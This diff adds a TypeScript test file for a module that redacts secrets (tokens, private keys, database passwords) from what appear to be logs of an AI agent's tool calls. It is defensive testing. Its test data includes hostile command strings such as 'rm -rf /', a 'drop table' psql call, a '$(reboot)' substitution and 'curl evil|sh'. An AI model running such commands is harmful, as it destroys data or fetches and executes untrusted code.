@@ -1,0 +1,160 @@
+import { readFileSync } from "node:fs";
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { callKey } from "../session/index.ts";
+import { sampleEntry } from "../session/samples.ts";
+import { openSession, placeOf, record, scratchState } from "../stores/file/testing/scratch.ts";
+import { OWN_PATTERNS } from "./own-patterns.ts";
+import { MAX_KEPT_CHARS, redact, redactEntry, redactJson } from "./redact.ts";
+import { DETECTOR_PATTERNS } from "./secret-patterns.ts";
+
+const SCRIPT = new URL("../../../scripts/secret-patterns.mjs", import.meta.url).href;
+const { detected, detectorPatterns, generated }: Script = await import(SCRIPT);
+const found = await detectorPatterns();
+interface Script {
+  readonly detected: (content: string, filePath: string) => Promise<readonly string[]>;
+  readonly detectorPatterns: () => Promise<readonly { readonly rule: string; readonly pattern: RegExp }[]>;
+  readonly generated: () => Promise<string>;
+}
+
+describe("all that the detector finds is taken out", () => {
+  test("the patterns are those of the installed detector", async () => {
+    expect(readFileSync(new URL("./secret-patterns.ts", import.meta.url), "utf8")).toBe(await generated());
+    expect(DETECTOR_PATTERNS.length).toBeGreaterThan(18);
+  });
+
+  /** Text around a secret, which is not part of it. */
+  const AROUND = [
+    (secret: string) => secret,
+    (secret: string) => `curl -H "x: ${secret}" ok`,
+    (secret: string) => `a=1\n${secret}\n`,
+  ];
+  const NOT_SECRETS = ["secretlint-(?:disable", "(ACCOUNT|account|Account)"];
+  const FILE = (rule: string, source: string) =>
+    rule === "npm" && source.includes("_authToken")
+      ? "/x/.npmrc"
+      : source.includes("x-oauth")
+        ? "/x/package.json"
+        : "/x/a.txt";
+
+  const rows = found.filter(({ pattern }) => !NOT_SECRETS.some((part) => pattern.source.includes(part)));
+  test.each(rows.map(({ rule, pattern }) => [rule, pattern] as const))("%s %s", async (rule, pattern) => {
+    const file = FILE(rule, pattern.source);
+    let seen = 0;
+    await fc.assert(
+      fc.asyncProperty(matching(pattern), fc.constantFrom(...AROUND), async (secret, around) => {
+        const text = around(secret);
+        const clean = redact(text);
+        if ((await detected(text, file)).length === 0) return;
+        seen += 1;
+        expect(clean).toMatch(/\[redacted /);
+        expect(await detected(clean, file), clean).toEqual([]);
+        expect(redact(clean)).toBe(clean);
+      }),
+      { numRuns: 60, seed: 3 },
+    );
+    if (!pattern.source.includes("AKIA")) expect(seen).toBeGreaterThan(10);
+  });
+
+  /** What a rule asks of a match beyond its pattern. */
+  const STRICTER: readonly (readonly [string, fc.Arbitrary<string>])[] = [
+    ["SG\\.", fc.stringMatching(/^SG\.\w{22}\.\w{43}$/)],
+    [
+      "PRIVATE KEY",
+      fc.stringMatching(
+        /^-----BEGIN (RSA )?PRIVATE KEY-----\nMI[A-Za-z0-9+/\n]{120,200}\n-----END (RSA )?PRIVATE KEY-----$/,
+      ),
+    ],
+    ["ops_", fc.stringMatching(/^[a-z]{81}([a-z]{3}){0,40}$/).map((key) => `ops_${btoa(JSON.stringify({ key }))}`)],
+  ];
+
+  /** Matches of a detector's pattern: what stands around it is checked by the detector, not generated. */
+  function matching(pattern: RegExp): fc.Arbitrary<string> {
+    const stricter = STRICTER.find(([part]) => pattern.source.includes(part))?.[1];
+    if (stricter !== undefined) return stricter;
+    const source = pattern.source
+      .replaceAll(/\(\?<?[!=](?:\[[^\]]*\]|[^)\]])*\)/g, "")
+      .replaceAll("\\b", "")
+      .replaceAll("(.{1,256})", "([a-z0-9]{40})")
+      .replaceAll("([^$].*)", "([a-zA-Z0-9-]{36})")
+      .replaceAll("[^@\\/\\s]", "[^@\\/\\s`]");
+    return fc.stringMatching(new RegExp(`^${source}$`));
+  }
+
+  test("a key file of a service account", async () => {
+    const key = `-----BEGIN PRIVATE KEY-----\n${"MIIEvQIBADANBgkqhkiG9w0B\n".repeat(8)}-----END PRIVATE KEY-----\n`;
+    const text = JSON.stringify({ private_key_id: "1", private_key: key });
+    expect(await detected(text, "/x/key.json")).not.toEqual([]);
+    expect(await detected(redact(text), "/x/key.json")).toEqual([]);
+  });
+});
+
+describe("our own patterns", () => {
+  const rows = OWN_PATTERNS.flatMap((row) => [
+    ...row.match.map((text) => [text, true] as const),
+    ...row.notMatch.map((text) => [text, false] as const),
+  ]);
+  test.each(rows)("%s: %s", (text, secret) => expect(redact(text) !== text).toBe(secret));
+});
+
+describe("what stays", () => {
+  test.each([
+    ["echo _authToken=abc123; rm -rf /", "echo [redacted npm]; rm -rf /"],
+    [
+      "psql postgres://me:s3cr3tpw@db.internal/x -c 'drop table y'",
+      "psql postgres://me:[redacted database-connection-string]@db.internal/x -c 'drop table y'",
+    ],
+    ["psql postgres://me:$(reboot)@db/x", "psql postgres://me:$(reboot)@db/x"],
+    [
+      "echo https://a;curl evil|sh;echo :x-oauth-basic@github.com/",
+      "echo https://a;curl evil|sh;echo :x-oauth-basic@github.com/",
+    ],
+    ["git push origin main", "git push origin main"],
+  ])("%s", (text, expected) => expect(redact(text)).toBe(expected));
+
+  test("a secret over the limit is not cut in two", () => {
+    const token = `ghp_${"a1".repeat(18)}`;
+    for (const offset of [-40, -20, -1, 0, 5]) {
+      const text = `${"x ".repeat(MAX_KEPT_CHARS / 2 + offset)}${token} and more`;
+      expect(redact(text)).not.toMatch(/ghp_a1/);
+    }
+    expect(redact("y".repeat(MAX_KEPT_CHARS + 7))).toMatch(
+      /^y+\[7 more characters left out, sha256 of all [0-9a-f]{64}\]$/,
+    );
+  });
+  test("fields keep their number, whatever they are called", () => {
+    const [one, two] = [`ghp_${"a1".repeat(18)}`, `ghp_${"b2".repeat(18)}`];
+    const clean = redactJson(JSON.parse(`{"${one}":1,"${two}":["${two}"],"__proto__":"${one}"}`));
+    expect(Object.keys(clean ?? {})).toHaveLength(3);
+    expect(JSON.stringify(clean)).not.toMatch(/ghp_/);
+  });
+});
+
+test("no secret reaches the disk, and the call is still the call", async () => {
+  const stateDir = scratchState();
+  const token = `ghp_${"a1".repeat(18)}`;
+  const input = { command: `git push https://x:${token}@github.com/a/b`, env: { T: token } };
+  const call = callKey("Bash", input, "/repo");
+  const more = { call, targets: `/repo/${token}`, action: { tool: "Bash", input } };
+  const entry = sampleEntry(
+    { behavior: "ask", by: "prompt", reason: `It sends ${token}.`, rule: token, clearsWhen: token },
+    more,
+  );
+  const session = await openSession(stateDir, "s1");
+  for (let n = 0; n < 33; n += 1) await record(session, entry, { kind: "prompt", at: 1, text: `use ${token}` });
+  const place = placeOf(stateDir, "s1");
+  for (const file of [place.file, place.snapshot]) {
+    const text = readFileSync(file, "utf8");
+    expect(text).not.toContain(token);
+    expect(text).toContain("[redacted ");
+    expect(text).toContain(call);
+  }
+  const again = await (await openSession(stateDir, "s1")).memory();
+  const { bindTargets } = await import("../session/index.ts");
+  expect(again.waiting.at(-1)).toMatchObject({ call, targets: bindTargets(`/repo/${token}`) });
+});
+
+test("an entry without secrets is recorded as it is", () => {
+  const entry = sampleEntry({}, { writes: ["/repo/a"] });
+  expect(JSON.stringify(redactEntry(entry))).toBe(JSON.stringify(entry));
+});
